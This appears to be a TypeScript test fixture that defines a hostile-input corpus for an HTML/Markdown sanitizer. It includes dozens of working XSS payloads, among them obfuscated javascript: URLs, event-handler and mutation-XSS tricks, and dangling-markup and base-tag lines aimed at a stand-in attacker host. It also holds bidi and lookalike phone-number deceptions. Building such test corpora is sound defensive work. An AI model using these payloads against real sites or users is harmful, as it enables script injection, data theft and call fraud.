// The hostile-input corpus: every payload that could run code sets `window.__pwned` (the guard turns that
// into a counter, see guard.ts), so any execution is detected, not just alert-shaped ones.

export interface Payload {
  /** What the payload tries. */
  kind: string;
  text: string;
}

const P = 'window.__pwned=1';
const MB = 1 << 20;

const list: [string, string[]][] = [
  [
    'script',
    [
      `<script>${P}</script>`,
      `<SCRIPT>${P}</SCRIPT>`,
      `</script><script>${P}</script>`,
      `"><script>${P}</script>`,
      `'><script>${P}</script>`,
      `<script type="module">${P}</script>`,
      `<scr<script>ipt>${P}</scr</script>ipt>`,
      `<!--<script>--><script>${P}</script>-->`,
      `<script src="data:text/javascript,${P}"></script>`,
      `\u003cscript\u003e${P}\u003c/script\u003e`,
    ],
  ],
  [
    'event handler',
    [
      `<img src=x onerror=${P}>`,
      `<IMG SRC=x OnErRoR="${P}">`,
      `<img src="x" onerror="eval(atob('d2luZG93Ll9fcHduZWQ9MQ=='))">`,
      `<body onload=${P}>`,
      `<svg onload=${P}>`,
      `<details open ontoggle=${P}>`,
      `<input autofocus onfocus=${P}>`,
      `<select autofocus onfocus=${P}></select>`,
      `<textarea autofocus onfocus=${P}></textarea>`,
      `<video><source onerror=${P}></video>`,
      `<audio src=x onerror=${P}>`,
      `<iframe onload=${P}></iframe>`,
      `<object data=x onerror=${P}></object>`,
      `<style onload=${P}></style>`,
      `<div onpointerover=${P} style="position:fixed;inset:0">x</div>`,
      `" onmouseover="${P}" x="`,
      `' autofocus onfocus='${P}' x='`,
      `" autofocus onfocus=${P}//`,
      `<img src=x:x onerror&#61;${P}>`,
      `<a href=# onclick=${P}>x</a>`,
    ],
  ],
  [
    'URL scheme',
    [
      `javascript:${P}`,
      `JaVaScRiPt:${P}`,
      `JAVASCRIPT:${P}`,
      ` javascript:${P}`,
      `\u0001javascript:${P}`,
      `\u0000javascript:${P}`,
      `\u001fjavascript:${P}`,
      `\u00a0javascript:${P}`,
      `\ufeffjavascript:${P}`,
      `java\tscript:${P}`,
      `java\nscript:${P}`,
      `java\rscript:${P}`,
      `jav\u0000ascript:${P}`,
      `javascript\u200b:${P}`,
      `&#106;avascript:${P}`,
      `&#x6A;&#x61;&#x76;&#x61;script:${P}`,
      `javascript&colon;${P}`,
      `jav&#x09;ascript:${P}`,
      `javascript://%0A${P}`,
      `%6Aavascript:${P}`,
      `data:text/html,<script>${P}</script>`,
      `DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
      `data:image/svg+xml,<svg onload=${P}>`,
      ` DaTa:text/html,<img src=x onerror=${P}>`,
      `vbscript:msgbox(1)`,
      `VBScript:${P}`,
      `\tvbscript:${P}`,
      `//evil.example/x`,
      `\\\\evil.example\\x`,
      `https:/\\evil.example`,
    ],
  ],
  [
    'safe-format link',
    [
      `[x](javascript:${P})`,
      `[x](JaVaScRiPt:${P})`,
      `[x](data:text/html,<script>${P}</script>)`,
      `[x](vbscript:${P})`,
      `[x](\u0001javascript:${P})`,
      `[x](java\u0000script:${P})`,
      `[**x**](javascript:${P})`,
      `[<img src=x onerror=${P}>](https://example.com/)`,
      `[x](https://example.com/"onmouseover="${P})`,
      `[x](javascript:${P}) and [y](https://example.com/)`,
    ],
  ],
  [
    'SVG and MathML',
    [
      `<svg><script>${P}</script></svg>`,
      `<svg><a xlink:href="javascript:${P}"><text x="20" y="20">x</text></a></svg>`,
      `<svg><animate onbegin=${P} attributeName=x dur=1s>`,
      `<svg><a><set attributeName=href to="javascript:${P}"/><text y="20">x</text></a></svg>`,
      `<svg><foreignObject><img src=x onerror=${P}></foreignObject></svg>`,
      `<svg><style><img src=x onerror=${P}></style></svg>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${P}>`,
      `<math href="javascript:${P}">x</math>`,
      `<math><maction actiontype="statusline" xlink:href="javascript:${P}">x</maction></math>`,
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${P}'/></svg>#x"/></svg>`,
    ],
  ],
  [
    'iframe and embed',
    [
      `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
      `<iframe srcdoc="&lt;img src=x onerror=parent.__pwned=1&gt;"></iframe>`,
      `<iframe src="javascript:parent.__pwned=1"></iframe>`,
      `<embed src="javascript:${P}">`,
      `<object data="javascript:${P}"></object>`,
    ],
  ],
  [
    'consuming tag',
    [
      `<noscript><p title="</noscript><img src=x onerror=${P}>">`,
      `<xmp><p title="</xmp><img src=x onerror=${P}>">`,
      `<textarea><p title="</textarea><img src=x onerror=${P}>">`,
      `<style><p title="</style><img src=x onerror=${P}>">`,
      `<title><p title="</title><img src=x onerror=${P}>">`,
      `<noembed><p title="</noembed><img src=x onerror=${P}>">`,
      `<iframe><p title="</iframe><img src=x onerror=${P}>">`,
      `<plaintext><img src=x onerror=${P}>`,
    ],
  ],
  [
    'template',
    [
      `<template><template><img src=x onerror=${P}></template></template>`,
      `<template><script>${P}</script></template>`,
      `<div><template shadowrootmode="open"><img src=x onerror=${P}></template></div>`,
      `{{constructor.constructor('${P}')()}}`,
      `\${${P}}`,
      `{{7*7}} \${7*7} #{7*7} <%= 7*7 %>`,
      `{n} {number} {type} {date} {item} {reason}`,
      `{constructor} {__proto__} {toString}`,
      `$& $' $\` $1 $<x>`,
    ],
  ],
  [
    'dangling markup',
    [
      `<img src='//evil.example/?`,
      `<a href="//evil.example/?`,
      `<form action=//evil.example/><button>x`,
      `<table background="//evil.example/?`,
      `<base target='`,
    ],
  ],
  [
    'base, meta, link',
    [
      `<base href="//evil.example/">`,
      `<base href="javascript:${P}//">`,
      `<meta http-equiv="refresh" content="0;url=javascript:${P}">`,
      `<meta http-equiv="Content-Security-Policy" content="script-src 'unsafe-inline'">`,
      `<link rel=stylesheet href=//evil.example/x.css>`,
      `<link rel=prefetch href="//evil.example/">`,
    ],
  ],
  [
    'DOM clobbering',
    [
      `<a id=__pwned>`,
      `<form name=querySelector><input name=x></form>`,
      `<img name=getElementById>`,
      `<a id=location href=//evil.example>`,
      `<form id=document><input name=cookie></form>`,
      '__proto__',
      'constructor',
      'toString',
      'data',
      's',
      'q',
      'title',
      'sum',
    ],
  ],
  [
    'direction and invisible characters',
    [
      `\u202Eevil.example\u202C`,
      `+1 800 555 0100\u202E`,
      `\u2066javascript:${P}\u2069`,
      `\u200B\u200C\u200D\u2060\uFEFF`,
      `Refund\u200Bable \u202Egnp.exe`,
      `\u0600\u0601\u061C\u200F`,
    ],
  ],
  [
    'phone lookalike',
    [
      '+1 8OO 555 0100',
      '+1 800 555 0l00',
      '＋１８００５５５０１００',
      '+١٨٠٠٥٥٥٠١٠٠',
      '+۱۸۰۰۵۵۵۰۱۰۰',
      '+𝟏𝟖𝟎𝟎𝟓𝟓𝟓𝟎𝟏𝟎𝟎',
      '+1\u200B800\u200B555\u200B0100',
      'tel:+18005550100',
      '+1-800-555-0100;ext=1',
      '+18005550100\u0000',
    ],
  ],
  [
    'bidi reorder',
    [
      // Shown as +1 800 555 0100 by the right-to-left override, dialled (and read by a screen reader) as other digits.
      `\u202E0010 555 008 1+`,
      `\u202E+1 800 555 0100\u202C`,
      `\u202B+1 800\u202C 555 0199`,
      `\u2067+1 800 555 0199\u2069`,
      `\u2068Support\u2069 \u2066+1 800 555 0199\u2069`,
      `+1 800\u061C 555\u200F 0100\u200E`,
      `\u202D1-800-555-0100\u202C`,
      `[\u202E0010 555 008 1+](tel:+19005550199)`,
    ],
  ],
  [
    'number shown is not dialled',
    [
      `[+1 800 555 0100](tel:+19005550199)`,
      `[1-800-555-0100](tel:+1-900-555-0199)`,
      `[１-８００-５５５-０１００](tel:+19005550199)`,
      `[١٨٠٠٥٥٥٠١٠٠](tel:+19005550199)`,
      `[call us](tel:*21*+19005550199%23)`,
      `[call us](tel:+18005550100;phone-context=evil.example)`,
      `[call us](tel:19005550199)`,
      '+1 800 555 0199',
      '1-900-FLOWERS',
      'http://examplepay.example/contact',
      'https://examplepay.example@evil.example/contact',
      '//evil.example/contact',
    ],
  ],
  ['null byte', [`\u0000`, `a\u0000<script>${P}</script>`, `\u0000\u0000\u0000`, `x\u0000y`]],
  [
    '1 MB string',
    ['A'.repeat(MB), '['.repeat(MB), `x${' '.repeat(MB)}x`, `验证码${' '.repeat(MB)}x`, `<img src=x onerror=${P}>`.repeat(Math.ceil(MB / 32)).slice(0, MB)],
  ],
];

/** Every payload, in order. */
export const payloads: Payload[] = list.flatMap(([kind, texts]) => texts.map((text) => ({ kind, text })));

/** True for the 1 MB payloads: some paths send a shorter cut of them (see `sized`). */
export const isBig = (p: Payload): boolean => p.text.length >= MB;

/** The payload's text, cut to `max` characters for paths where a megabyte per element would take too long. */
export const sized = (p: Payload, max = MB): string => (p.text.length > max ? p.text.slice(0, max - 1) + p.text.slice(-1) : p.text);
